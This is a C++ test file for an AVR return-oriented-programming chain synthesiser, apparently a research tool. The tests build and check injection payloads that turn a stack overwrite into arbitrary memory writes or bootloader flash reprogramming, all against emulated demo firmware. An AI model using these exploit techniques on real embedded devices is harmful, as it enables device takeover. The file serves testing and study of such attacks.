#include <doctest.h>

#include <algorithm>
#include <random>

#include "avrrop/chains.hpp"
#include "avrrop/emulator.hpp"
#include "avrrop/error.hpp"
#include "avrrop/fixture.hpp"
#include "avrrop/gadgets.hpp"

using namespace avrrop;

namespace {

using Bytes = std::vector<std::uint8_t>;

ErrorCode synth_error(const GadgetCatalog& c, const ChainGoal& goal, const SynthesisConstraints& k = {}) {
  try {
    synthesize_chain(c, goal, k);
  } catch (const Error& e) {
    return e.code();
  }
  return ErrorCode::IoError;
}

FirmwareImage image_from(std::initializer_list<std::pair<std::uint32_t, std::vector<std::string_view>>> parts) {
  fixture::ProgramBuilder b;
  for (const auto& [addr, lines] : parts) {
    b.org(addr);
    for (auto l : lines) b.emit(l);
  }
  return FirmwareImage(b.build());
}

std::uint16_t pops_of(const Gadget& g) {
  return static_cast<std::uint16_t>(
      std::count_if(g.body.begin(), g.body.end(), [](const isa::Instruction& i) { return i.op == isa::Op::Pop; }));
}

// Runs the bytes that follow the overwritten return address, starting at the
// first gadget. Returns true when the run ends in a soft reboot.
struct StackRunner {
  MachineState base;
  MachineState m;
  std::vector<std::pair<std::uint16_t, std::uint8_t>> writes;
  static constexpr std::uint16_t kSp = 0x0F80;

  explicit StackRunner(const FirmwareImage& image) : base(boot(image)), m(base) {
    m.write_hook = [this](std::uint16_t a, std::uint8_t v) { writes.emplace_back(a, v); };
  }

  bool run_from(std::uint32_t entry, const Bytes& stack) {
    m.sram = base.sram;
    m.halted = false;
    writes.clear();
    for (std::size_t i = 0; i < stack.size(); ++i) m.sram[kSp + 1 + i] = stack[i];
    m.set_sp(kSp);
    m.pc = entry;
    return run(m, 2000).kind == StopKind::SoftReboot;
  }
};

// Layout of a sequence: gadget i's pops, then the address of gadget i+1 (or
// the reboot vector). Returns slot positions (indices into the stack bytes).
struct SeqLayout {
  Bytes stack;
  std::vector<std::size_t> slots;
  std::uint16_t payload_length = 0;  // including the overwritten return address
};

SeqLayout layout_of(const std::vector<const Gadget*>& seq) {
  SeqLayout l;
  for (std::size_t i = 0; i < seq.size(); ++i) {
    for (std::uint16_t p = 0; p < pops_of(*seq[i]); ++p) {
      l.slots.push_back(l.stack.size());
      l.stack.push_back(0);
    }
    const std::uint32_t next = i + 1 < seq.size() ? seq[i + 1]->entry : 0;
    l.stack.push_back(static_cast<std::uint8_t>(next & 0xFF));
    l.stack.push_back(static_cast<std::uint8_t>(next >> 8));
  }
  l.payload_length = static_cast<std::uint16_t>(l.stack.size() + 2);
  return l;
}

// Exhaustive check of one sequence: marker runs locate the slots feeding each
// store's address bytes and value, then two concrete writes are verified.
bool sequence_writes_any_byte(StackRunner& r, const std::vector<const Gadget*>& seq, std::mt19937_64& rng) {
  SeqLayout l = layout_of(seq);
  if (!r.run_from(seq[0]->entry, l.stack)) return false;
  const auto baseline = r.writes;
  if (baseline.empty()) return false;
  const std::size_t n = l.slots.size();
  std::vector<std::vector<std::pair<std::uint16_t, std::uint8_t>>> marked(n);
  for (std::size_t j = 0; j < n; ++j) {
    Bytes s = l.stack;
    s[l.slots[j]] = 1;
    if (!r.run_from(seq[0]->entry, s) || r.writes.size() != baseline.size()) return false;
    marked[j] = r.writes;
  }
  for (std::size_t e = 0; e < baseline.size(); ++e) {
    std::optional<std::size_t> lo, hi, val;
    for (std::size_t j = 0; j < n; ++j) {
      const auto [a, v] = marked[j][e];
      if (a == baseline[e].first + 1 && v == baseline[e].second) lo = j;
      if (a == baseline[e].first + 0x100 && v == baseline[e].second) hi = j;
      if (a == baseline[e].first && v != baseline[e].second) val = j;
    }
    if (!lo || !hi || !val) continue;
    const std::uint16_t q = baseline[e].first;
    bool ok = true;
    for (int trial = 0; trial < 2 && ok; ++trial) {
      const auto target = static_cast<std::uint16_t>(0x0400 + rng() % 0x0A00);
      const auto value = static_cast<std::uint8_t>(1 + rng() % 255);
      const auto base_addr = static_cast<std::uint16_t>(target - q);
      Bytes s = l.stack;
      s[l.slots[*lo]] = static_cast<std::uint8_t>(base_addr & 0xFF);
      s[l.slots[*hi]] = static_cast<std::uint8_t>(base_addr >> 8);
      s[l.slots[*val]] = value;
      ok = r.run_from(seq[0]->entry, s) && r.m.sram[target] == value;
    }
    if (ok) return true;
  }
  return false;
}

// Random copy-only gadget fragments separated by erased words.
FirmwareImage random_catalog_image(std::mt19937_64& rng, std::size_t max_gadgets) {
  static const std::vector<std::uint8_t> pool{0, 1, 18, 19, 22, 24, 25, 26, 27, 30, 31};
  static const std::vector<std::vector<std::string>> fixed{
      {"movw r30, r24", "ret"}, {"movw r30, r18", "ret"}, {"movw r30, r26", "ret"},
      {"movw r24, r18", "ret"}, {"mov r18, r22", "ret"},  {"mov r30, r24", "ret"},
      {"mov r31, r25", "ret"},  {"st Z, r18", "ret"},     {"st Z, r22", "ret"},
      {"st Z, r24", "ret"},     {"st Z+, r18", "ret"},    {"std Z+3, r18", "ret"},
      {"std Z+10, r22", "ret"}, {"movw r30, r24", "std Z+10, r22", "ret"},
      {"pop r30", "pop r31", "pop r18", "st Z, r18", "ret"}};
  std::vector<std::uint16_t> words;
  std::size_t gadgets = 0;
  while (true) {
    std::vector<std::string> frag;
    if (rng() % 2) {
      const auto count = 1 + rng() % 4;
      for (std::size_t i = 0; i < count; ++i) frag.push_back("pop r" + std::to_string(pool[rng() % pool.size()]));
      if (rng() % 4 == 0) frag.insert(frag.end() - static_cast<long>(rng() % frag.size()) - 1, "out 0x3f, r0");
      frag.push_back(rng() % 3 ? "ret" : "reti");
    } else {
      frag = fixed[rng() % fixed.size()];
    }
    if (gadgets + frag.size() > max_gadgets) break;
    gadgets += frag.size();
    for (auto w : isa::assemble(std::span<const std::string>(frag))) words.push_back(w);
    words.push_back(0xFFFF);
  }
  return FirmwareImage(words);
}

}  // namespace

TEST_CASE("chains: ideal injection gadget") {
  const auto image = image_from({{0x0100, {"pop r30", "pop r31", "pop r18", "st Z, r18", "ret"}}});
  const auto chains = synthesize_chain(scan_gadgets(image), ChainGoal::write_byte());
  REQUIRE(!chains.empty());
  const auto& c = chains.front();
  CHECK(c.gadgets.size() == 1);
  CHECK(c.strategy == Strategy::Ideal);
  CHECK(c.payload_length == 7);
  const auto payload = emit_injection_payload(c, 0x0400, 0xAA);
  CHECK(payload == Bytes{0, 1, 2, 3, 0x00, 0x01, 0x00, 0x04, 0xAA, 0x00, 0x00});

  StackRunner r(image);
  REQUIRE(r.run_from(0x0100, Bytes(payload.begin() + 6, payload.end())));
  CHECK(r.m.sram[0x0400] == 0xAA);
}

TEST_CASE("chains: demo injection chain reproduces the 19-byte payload") {
  const auto demo = fixture::demo_firmware();
  const auto chains = synthesize_chain(scan_gadgets(demo), ChainGoal::write_byte());
  REQUIRE(!chains.empty());
  const auto& c = chains.front();
  CHECK(c.entries() == std::vector<std::uint32_t>{0x2b58, 0x0185, 0x073a});
  CHECK(c.payload_length == 15);
  const std::uint16_t addr = 0x0456;
  const std::uint8_t data = 0xC3;
  CHECK(emit_injection_payload(c, addr, data) ==
        Bytes{0x00, 0x01, 0x02, 0x03, 0x58, 0x2b, 0x56, 0x04, 0x00, data, 0x00, 0x00, 0x00, 0x85, 0x01, 0x3a,
              0x07, 0x00, 0x00});
}

TEST_CASE("chains: parameter byte order follows the gadget's pop order") {
  // Same three gadgets with r25 popped before r24: the high address byte comes first.
  const auto image = image_from(
      {{0x2b58, {"pop r25", "pop r24", "pop r19", "pop r18", "pop r0", "out 0x3f, r0", "pop r0", "pop r1", "reti"}},
       {0x0185, {"movw r30, r24", "ret"}},
       {0x073a, {"st Z, r18", "ret"}}});
  const auto c = synthesize_chain(scan_gadgets(image), ChainGoal::write_byte()).front();
  const auto p = emit_injection_payload(c, 0x0456, 0x11);
  CHECK(p[6] == 0x04);
  CHECK(p[7] == 0x56);
  StackRunner r(image);
  REQUIRE(r.run_from(0x2b58, Bytes(p.begin() + 6, p.end())));
  CHECK(r.m.sram[0x0456] == 0x11);
}

TEST_CASE("chains: no store gadget") {
  const auto null = scan_gadgets(fixture::null_firmware());
  CHECK(synth_error(null, ChainGoal::write_byte()) == ErrorCode::NoChainFound);
  CHECK(synth_error(null, ChainGoal::reprogram()) == ErrorCode::NoChainFound);
  const auto pops_only = image_from({{0x0100, {"pop r30", "pop r31", "pop r18", "ret"}}});
  CHECK(synth_error(scan_gadgets(pops_only), ChainGoal::write_byte()) == ErrorCode::NoChainFound);
}

TEST_CASE("chains: reprogramming payload") {
  const auto demo = fixture::demo_firmware();
  const auto chains = synthesize_chain(scan_gadgets(demo), ChainGoal::reprogram());
  REQUIRE(!chains.empty());
  const auto& c = chains.front();
  CHECK(c.entries() == std::vector<std::uint32_t>{0xf93d, 0xfba9});
  REQUIRE(c.spm_entry);
  CHECK(*c.spm_entry == fixture::kBlSpmPage);
  CHECK(demo.in_bootloader(*c.spm_entry));
  CHECK(emit_reprogramming_payload(c, 0x0400) ==
        Bytes{0x00, 0x01, 0x02, 0x03, 0x3d, 0xf9, 0x04, 0x00, 0x00, 0x00, 0x00, 0xa9, 0xfb});
  CHECK(emit_reprogramming_payload(c, 0x0000) ==
        Bytes{0x00, 0x01, 0x02, 0x03, 0x3d, 0xf9, 0x00, 0x00, 0x00, 0x00, 0x00, 0xa9, 0xfb});
}

TEST_CASE("chains: packet size limit") {
  // Address and data first, then 20 filler pops: every suffix that controls
  // Z and r18 carries all of them.
  fixture::ProgramBuilder b;
  b.org(0x0100);
  b.emit({"pop r30", "pop r31", "pop r18"});
  for (int r = 0; r <= 17; ++r) b.emit("pop r" + std::to_string(r));
  b.emit({"pop r19", "pop r20", "st Z, r18", "ret"});
  const FirmwareImage image(b.build());
  const auto catalog = scan_gadgets(image);
  CHECK(synth_error(catalog, ChainGoal::write_byte()) == ErrorCode::ConstraintUnsatisfiable);
  SynthesisConstraints roomy;
  roomy.max_packet_payload = 64;
  const auto c = synthesize_chain(catalog, ChainGoal::write_byte(), roomy).front();
  CHECK(c.payload_length == 27);
  CHECK(emit_injection_payload(c, 0x0400, 1, roomy).size() == 31);
  try {
    emit_injection_payload(c, 0x0400, 1);
    FAIL("expected PayloadTooLong");
  } catch (const Error& e) {
    CHECK(e.code() == ErrorCode::PayloadTooLong);
  }
  SynthesisConstraints bad;
  bad.padding_prefix = 40;
  CHECK_THROWS_AS(bad.validate(), Error);
}

TEST_CASE("chains: little-endian gadget address slots") {
  const auto demo = fixture::demo_firmware();
  const auto catalog = scan_gadgets(demo);
  for (const auto& goal : {ChainGoal::write_byte(), ChainGoal::reprogram()}) {
    for (const auto& c : synthesize_chain(catalog, goal)) {
      const auto p = goal.kind == GoalKind::WriteByte ? emit_injection_payload(c, 0x0400, 7)
                                                      : emit_reprogramming_payload(c, 0x03ff);
      for (const auto& s : c.layout) {
        const auto entry = c.gadgets[s.gadget].entry;
        if (s.kind == SlotKind::GadgetAddrLow) CHECK(p[4 + s.offset] == (entry & 0xFF));
        if (s.kind == SlotKind::GadgetAddrHigh) CHECK(p[4 + s.offset] == (entry >> 8));
      }
    }
  }
}

TEST_CASE("chains: every demo chain writes random bytes in the emulator") {
  const auto demo = fixture::demo_firmware();
  const auto chains = synthesize_chain(scan_gadgets(demo), ChainGoal::write_byte());
  REQUIRE(chains.size() >= 2);
  std::mt19937_64 rng(31337);
  const auto lo = demo.layout.bss_section.end;
  const auto hi = demo.layout.stack_limit;
  for (const auto& c : chains) {
    auto base = boot(demo);
    for (int i = 0; i < 64; ++i) {
      const auto target = static_cast<std::uint16_t>(lo + rng() % (hi - lo));
      const auto value = static_cast<std::uint8_t>(rng());
      auto m = base;
      const auto before = m.sram;
      const auto out = deliver_packet(m, emit_injection_payload(c, target, value));
      REQUIRE(out.kind == StopKind::SoftReboot);
      CHECK(m.sram[target] == value);
      for (std::uint32_t a = lo; a < hi; ++a) {
        if (a != target && m.sram[a] != before[a]) {
          FAIL_CHECK("unused byte 0x" << std::hex << a << " changed");
        }
      }
    }
  }
}

TEST_CASE("chains: ranking order") {
  const auto chains = synthesize_chain(scan_gadgets(fixture::demo_firmware()), ChainGoal::write_byte());
  for (std::size_t i = 1; i < chains.size(); ++i) {
    const auto& a = chains[i - 1];
    const auto& b = chains[i];
    CHECK((a.payload_length < b.payload_length ||
           (a.payload_length == b.payload_length && a.entries() <= b.entries())));
  }
}

TEST_CASE("chains: shortest chain is minimal under exhaustive emulator search") {
  std::mt19937_64 rng(8);
  int with_chain = 0;
  for (int trial = 0; trial < 100; ++trial) {
    const auto image = random_catalog_image(rng, 10 + rng() % 41);
    const auto catalog = scan_gadgets(image);
    REQUIRE(catalog.gadgets.size() <= 50);
    StackRunner r(image);
    SynthesisConstraints k;
    const std::uint16_t limit = k.max_packet_payload - k.padding_prefix;

    std::vector<const Gadget*> all, stores;
    for (const auto& g : catalog.gadgets) {
      // Every gadget is entered by a return, and returning to word 0 reboots.
      if (g.entry == 0) continue;
      all.push_back(&g);
      const bool has_store = std::any_of(g.body.begin(), g.body.end(), [](const isa::Instruction& i) {
        return i.op == isa::Op::StZ || i.op == isa::Op::StZInc || i.op == isa::Op::StdZ;
      });
      if (has_store) stores.push_back(&g);
    }
    std::optional<std::uint16_t> best;
    const auto consider = [&](const std::vector<const Gadget*>& seq) {
      const auto len = layout_of(seq).payload_length;
      if (len > limit || (best && len >= *best)) return;
      if (sequence_writes_any_byte(r, seq, rng)) best = len;
    };
    for (const Gadget* s : stores) {
      consider({s});
      for (const Gadget* a : all) {
        consider({a, s});
        for (const Gadget* b : all) consider({a, b, s});
      }
    }

    INFO("trial " << trial);
    try {
      const auto chains = synthesize_chain(catalog, ChainGoal::write_byte(), k);
      REQUIRE(best.has_value());
      CHECK(chains.front().payload_length == *best);
      ++with_chain;
      // The synthesized chain itself passes the emulator check.
      const auto& c = chains.front();
      const auto p = emit_injection_payload(c, 0x0777, 0x42, k);
      REQUIRE(r.run_from(c.gadgets[0].entry, Bytes(p.begin() + k.padding_prefix + 2, p.end())));
      CHECK(r.m.sram[0x0777] == 0x42);
    } catch (const Error& e) {
      CHECK(!best.has_value());
    }
  }
  CHECK(with_chain >= 25);
}
